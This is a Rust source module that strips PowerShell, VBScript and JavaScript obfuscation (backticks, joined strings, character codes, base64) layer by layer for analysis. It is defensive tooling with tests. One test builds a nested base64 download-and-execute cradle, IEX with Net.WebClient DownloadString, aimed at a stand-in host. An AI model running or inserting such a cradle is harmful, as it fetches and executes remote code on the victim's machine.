//! Undoing what hides a script, by rewriting its text alone: base64 with or without `-enc`, character codes, joined strings, backticks,
//! `-f` with numbers in braces, reversed and replaced strings are common; the first four are undone here.

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// How often a text is rewritten.
/// Undoes one kind of disguise; `None` when there is nothing to undo.
type Step = fn(&str) -> Option<String>;

pub(super) const ROUNDS_MAX: usize = 8;
/// Characters of all layers together.
pub(super) const CHARS_MAX: usize = 4 << 20;

/// One step: what was undone, and the text after it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Layer {
    /// `backtick`, `joined strings`, `character codes`, `base64`, ..
    pub how: &'static str,
    pub text: String,
}

/// Every layer below `script`, outermost first; none when nothing is hidden.
pub fn reveal(script: &str) -> Vec<Layer> {
    let mut layers: Vec<Layer> = Vec::new();
    let mut spent = script.len();
    let mut text = script.to_owned();
    for _ in 0..ROUNDS_MAX {
        let steps: [(&'static str, Step); 4] =
            [("backtick", backticks), ("joined strings", joined), ("character codes", codes), ("base64", base64)];
        let Some((how, next)) = steps.iter().find_map(|(how, step)| Some((*how, step(&text)?))) else { break };
        spent += next.len();
        if spent > CHARS_MAX {
            break;
        }
        text.clone_from(&next);
        layers.push(Layer { how, text: next });
    }
    layers
}

/// `` I`nv`oke-Ex`pression ``: a backtick before a letter that it does not change.
fn backticks(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut changed = 0;
    let mut chars = text.chars().peekable();
    let mut before = ' ';
    while let Some(c) = chars.next() {
        let inside = before.is_alphanumeric() && chars.peek().is_some_and(|n| n.is_alphabetic());
        if c == '`' && inside {
            changed += 1;
        } else {
            out.push(c);
        }
        before = c;
    }
    (changed > 0).then_some(out)
}

/// `'Inv'+'oke'` to `'Invoke'`, with either quote.
fn joined(text: &str) -> Option<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    let mut at = 0;
    while at < chars.len() {
        if matches!(chars[at], '"' | '\'') {
            let quote = chars[at];
            let skip = |from: usize| from + chars[from..].iter().take_while(|c| c.is_whitespace()).count();
            let plus = skip(at + 1);
            if matches!(chars.get(plus), Some('+' | '&')) {
                let next = skip(plus + 1);
                if chars.get(next) == Some(&quote) {
                    changed = true;
                    at = next + 1;
                    continue;
                }
            }
        }
        out.push(chars[at]);
        at += 1;
    }
    changed.then_some(out)
}

/// `[char]105+[char]101+[char]120`, `Chr(105) & Chr(101)`, `String.fromCharCode(105,101)`: as a quoted string.
fn codes(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    if lower.len() != text.len() {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    let mut at = 0;
    while at < text.len() {
        let rest = &lower[at..];
        let start = ["[char]", "chrw(", "chr(", "string.fromcharcode("].iter().find(|mark| rest.starts_with(**mark));
        let read = start.and_then(|mark| run(&rest[mark.len()..], mark).map(|(word, used)| (word, mark.len() + used)));
        match read {
            Some((word, used)) => {
                changed = true;
                out.push('\'');
                out.push_str(&word);
                out.push('\'');
                at += used;
            }
            None => {
                let c = text[at..].chars().next().unwrap_or(' ');
                out.push(c);
                at += c.len_utf8();
            }
        }
    }
    changed.then_some(out)
}

/// One number, or several with commas; what closes it belongs to it.
fn run(rest: &str, mark: &str) -> Option<(String, usize)> {
    let mut word = String::new();
    let mut used = 0;
    loop {
        let tail = &rest[used..];
        let skipped = tail.len() - tail.trim_start().len();
        let tail = tail.trim_start();
        let (digits, radix, prefix) = match tail.strip_prefix("0x").or_else(|| tail.strip_prefix("&h")) {
            Some(hex) => (hex.find(|c: char| !c.is_ascii_hexdigit()).unwrap_or(hex.len()), 16, 2),
            None => (tail.find(|c: char| !c.is_ascii_digit()).unwrap_or(tail.len()), 10, 0),
        };
        let number = u32::from_str_radix(tail.get(prefix..prefix + digits)?, radix).ok()?;
        word.push(char::from_u32(number).filter(|c| *c == '\t' || *c == '\n' || *c == '\r' || !c.is_control())?);
        used += skipped + prefix + digits;
        if mark.ends_with(']') {
            return Some((word, used));
        }
        let tail = rest[used..].trim_start();
        let gap = rest[used..].len() - tail.len();
        match tail.as_bytes().first() {
            Some(b',') => used += gap + 1,
            Some(b')') => return Some((word, used + gap + 1)),
            _ => return None,
        }
    }
}

/// The longest run of base64 that is text inside, as UTF-16 or UTF-8, in its place.
fn base64(text: &str) -> Option<String> {
    const CHARS_MIN: usize = 24;
    let engine = GeneralPurpose::new(
        &STANDARD,
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true),
    );
    let is_part = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=');
    let bytes = text.as_bytes();
    let mut best: Option<(usize, usize, String)> = None;
    let mut at = 0;
    while at < bytes.len() {
        let length = bytes[at..].iter().take_while(|b| is_part(**b)).count();
        if length >= CHARS_MIN && best.as_ref().is_none_or(|(from, to, _)| length > to - from) {
            let run = &bytes[at..at + length];
            if let Some(inner) = engine.decode(run.trim_ascii_end()).ok().and_then(|decoded| readable(&decoded)) {
                best = Some((at, at + length, inner));
            }
        }
        at += length.max(1);
    }
    let (from, to, inner) = best?;
    Some(format!("{}{inner}{}", &text[..from], &text[to..]))
}

/// Text that a person could have written, in one of the two forms that shells take.
fn readable(bytes: &[u8]) -> Option<String> {
    let mostly = |text: &str| {
        let odd = text.chars().filter(|c| c.is_control() && !c.is_whitespace() || *c == '\u{fffd}' || *c as u32 > 0x2fff).count();
        let total = text.chars().count();
        total >= 8 && odd * 50 < total && text.contains([' ', '(', '.', '-', '$'])
    };
    let (pairs, _) = bytes.as_chunks::<2>();
    let zeros = pairs.iter().filter(|p| p[1] == 0).count();
    let text = if zeros * 10 > pairs.len() * 8 {
        String::from_utf16(&pairs.iter().map(|p| u16::from_le_bytes(*p)).collect::<Vec<_>>()).ok()?
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    mostly(&text).then_some(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn encoded(text: &str) -> String {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(wide)
    }

    fn last(text: &str) -> String {
        reveal(text).pop().map(|layer| layer.text).unwrap_or_default()
    }

    #[test]
    fn each_way_of_hiding_is_undone() {
        assert_eq!(last("I`nv`oke-Ex`pression 1"), "Invoke-Expression 1");
        assert_eq!(last("&('I'+'E' + 'X')"), "&('IEX')");
        assert_eq!(last("[char]105+[char]101+[char]0x78"), "'iex'");
        assert_eq!(last("x = Chr(87) & Chr(83)"), "x = 'WS'");
        assert_eq!(last("eval(String.fromCharCode(97, 108, 101))"), "eval('ale')");
        assert_eq!(last(&format!("powershell -enc {}", encoded("Write-Host 'hello there'"))), "powershell -enc Write-Host 'hello there'");
        assert!(reveal("Get-ChildItem -Path C:\\Windows | Where-Object Length").is_empty());
    }

    #[test]
    fn three_layers_deep() {
        let inner = "IEX (New-Object Net.WebClient).DownloadString('http://far.example/a')";
        let twice =
            format!("powershell -enc {}", encoded(&format!("powershell -enc {}", encoded(&format!("powershell -e {}", encoded(inner))))));
        let layers = reveal(&twice);
        assert_eq!(layers.len(), 3);
        assert!(layers[2].text.ends_with(inner));
    }

    proptest! {
        #[test]
        fn any_text_ends(text in "[\\PC\\n]{0,400}") {
            prop_assert!(reveal(&text).len() <= ROUNDS_MAX);
        }

        #[test]
        fn marks_with_anything_after_end(text in "(\\[char\\]|chr\\(|'\\+'|`|String.fromCharCode\\(|[0-9,)]|é|QUJD){0,80}") {
            reveal(&text);
        }
    }
}
